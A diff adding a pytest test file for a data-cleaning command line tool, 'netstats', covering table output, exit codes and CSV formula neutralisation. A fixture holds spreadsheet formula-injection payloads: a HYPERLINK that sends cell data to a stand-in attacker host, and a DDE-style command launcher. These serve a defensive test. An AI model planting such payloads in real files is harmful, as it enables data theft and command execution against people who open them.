@@ -1,0 +1,146 @@
+"""The command line: ``netstats clean`` writes the tables; errors are one line and exit status 2."""
+
+from __future__ import annotations
+
+import subprocess
+import sys
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+import netstats as ns
+from netstats import _schema as S
+from netstats._cli import main
+from test_load_quirks import IN, OWNER_URL, connections_csv, line, write_export
+
+ERA = Path(__file__).parent / "fixtures" / "eras" / "2026-03"
+TABLES = ("connections", "messages", "invitations", "contacts", "ledger", "excluded", "quarantine")
+
+# research/threats.md §5 XLS-1: text a spreadsheet would run as a formula.
+FORMULAS = {
+    "company": '=HYPERLINK("https://evil.example/?d="&A2,"Open")',
+    "position": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "first": "+1 555 0100",
+    "last": "-2+3",
+}
+
+
+def run(*args: str) -> subprocess.CompletedProcess:
+    return subprocess.run([sys.executable, "-m", "netstats", *args], capture_output=True, text=True, timeout=120)
+
+
+@pytest.fixture(scope="module")
+def cleaned(tmp_path_factory) -> tuple[Path, ns.Export]:
+    out = tmp_path_factory.mktemp("tables")
+    assert main(["clean", str(ERA), "-o", str(out), "--quiet"]) == 0
+    return out, ns.load(ERA)
+
+
+def test_clean_writes_parquet_and_csv_for_every_table(cleaned):
+    out, _ = cleaned
+    assert sorted(p.name for p in out.iterdir()) == sorted(f"{t}.{ext}" for t in TABLES for ext in ("csv", "parquet"))
+
+
+@pytest.mark.parametrize("table", TABLES)
+def test_parquet_holds_the_tables_exactly(cleaned, table):
+    out, ex = cleaned
+    expected = getattr(ex, table)
+    got = pd.read_parquet(out / f"{table}.parquet")
+    if expected.empty:
+        assert list(got.columns) == list(expected.columns) and got.empty
+        return
+    pd.testing.assert_frame_equal(got, expected, check_dtype=False)
+    for column in expected.columns:
+        assert got[column].dtype == expected[column].dtype or expected[column].dtype == S.ID_LIST, column
+
+
+def test_csv_tables_read_back_as_the_same_text(cleaned):
+    out, ex = cleaned
+    messages = pd.read_csv(out / "messages.csv", dtype=str, keep_default_na=False)
+    assert messages.columns.tolist() == list(S.MESSAGES_COLUMNS)
+    assert messages[S.CONTENT].tolist() == ex.messages[S.CONTENT].fillna("").tolist()  # real newlines survive
+    assert messages[S.RECIPIENT_IDS].tolist() == [";".join(ids) for ids in ex.messages[S.RECIPIENT_IDS]]
+    ledger = pd.read_csv(out / "ledger.csv")
+    assert ledger[S.ROWS_READ].tolist() == ex.ledger[S.ROWS_READ].tolist()  # numbers stay numbers
+
+
+def test_clean_prints_the_ledger(tmp_path, capsys):
+    assert main(["clean", str(ERA), "-o", str(tmp_path), "--quiet"]) == 0
+    out = capsys.readouterr().out
+    assert "messages.csv" in out and "13 = 13 + 0 + 0" in out
+    assert "hidden profile" in out
+    assert f"wrote 14 files to {tmp_path}" in out
+
+
+def test_csv_formula_cells_are_neutralised_and_parquet_keeps_them(tmp_path):
+    text = connections_csv(
+        line(FORMULAS["first"], FORMULAS["last"], IN + "eve", "", FORMULAS["company"], FORMULAS["position"], "01 Jan 2020"),
+        line("Tab", "Lead", IN + "tab", "", "Plain, Inc.", "\t=1+1", "02 Jan 2020"),
+    )
+    export = write_export(tmp_path / "export", {"Connections.csv": text})
+    out = tmp_path / "out"
+    assert main(["clean", str(export), "-o", str(out), "--quiet"]) == 0
+    csv_table = pd.read_csv(out / "connections.csv", dtype=str, keep_default_na=False)
+    first = csv_table.iloc[0]
+    assert first[S.FIRST_NAME] == "'" + FORMULAS["first"]
+    assert first[S.LAST_NAME] == "'" + FORMULAS["last"]
+    assert first[S.COMPANY] == "'" + FORMULAS["company"]
+    assert first[S.POSITION] == "'" + FORMULAS["position"]
+    assert csv_table[S.COMPANY].tolist()[1] == "Plain, Inc."
+    # the loader strips the tab; what is left still starts a formula
+    assert csv_table[S.POSITION].tolist()[1] == "'=1+1"
+    assert csv_table[S.SOURCE_LINE].tolist() == ["5", "6"]  # a number, not neutralised
+    for path in out.glob("*.csv"):
+        for column in pd.read_csv(path, dtype=str, keep_default_na=False).items():
+            assert not column[1].str.match(r"^[=+\-@\t\r|%]").any() or column[0] in (S.SOURCE_LINE, S.LINE), (path, column[0])
+    parquet = pd.read_parquet(out / "connections.parquet")
+    assert parquet[S.COMPANY].tolist() == [FORMULAS["company"], "Plain, Inc."]
+    assert parquet[S.POSITION].tolist() == [FORMULAS["position"], "=1+1"]
+
+
+def test_python_dash_m_netstats_help():
+    result = run("--help")
+    assert result.returncode == 0
+    assert result.stdout.startswith("usage: netstats")
+    for command in ("clean", "report", "sample"):
+        assert command in result.stdout
+    clean = run("clean", "--help")
+    assert clean.returncode == 0 and "--encoding" in clean.stdout
+
+
+@pytest.mark.parametrize(
+    "files, expected",
+    [
+        ({"Connections.csv": "Vorname,Nachname\nBea,Lopez\n"}, "netstats: error: Connections.csv, line 1: the header was not recognised"),
+        ({"Skills.csv": "Name\nPython\n"}, "holds none of the files netstats reads"),
+        ({"Connections.csv": connections_csv('Bea,"Lopez,,,,,01 Jan 2020')}, "netstats: error: Connections.csv, line 5: a quoted field"),
+    ],
+    ids=["unknown-header", "not-an-export", "open-quote"],
+)
+def test_errors_exit_2_with_one_line_and_no_traceback(tmp_path, capsys, files, expected):
+    export = write_export(tmp_path / "export", files)
+    assert main(["clean", str(export), "-o", str(tmp_path / "out"), "--quiet"]) == 2
+    captured = capsys.readouterr()
+    assert captured.out == ""
+    assert captured.err.count("\n") == 1 and captured.err.startswith("netstats: error: ")
+    assert expected in captured.err
+    assert not (tmp_path / "out").exists()  # no partial output
+
+
+def test_an_error_from_the_real_command_is_one_line(tmp_path):
+    result = run("clean", str(tmp_path / "missing"), "-o", str(tmp_path / "out"))
+    assert result.returncode == 2
+    lines = [ln for ln in result.stderr.splitlines() if ln]
+    assert lines[-1].startswith("netstats: error: ") and "no such file or folder" in lines[-1]
+    assert "Traceback" not in result.stderr
+    assert all(ln.startswith("netstats: ") for ln in lines)  # progress lines and the error, nothing else
+
+
+def test_clean_with_an_encoding(tmp_path, capsys):
+    data = "First Name,Last Name,Email Address,Company,Position,Connected On\nJan,M\xfcller,,Caf\xe9,,01 Jan 2020\n".encode("cp1252")
+    export = write_export(tmp_path / "export", {"Connections.csv": data})
+    assert main(["clean", str(export), "-o", str(tmp_path / "bad"), "--quiet"]) == 2
+    assert "encoding='cp1252'" in capsys.readouterr().err
+    assert main(["clean", str(export), "-o", str(tmp_path / "out"), "--quiet", "--encoding", "cp1252"]) == 0
+    assert pd.read_parquet(tmp_path / "out" / "connections.parquet")[S.NAME].tolist() == ["Jan Müller"]
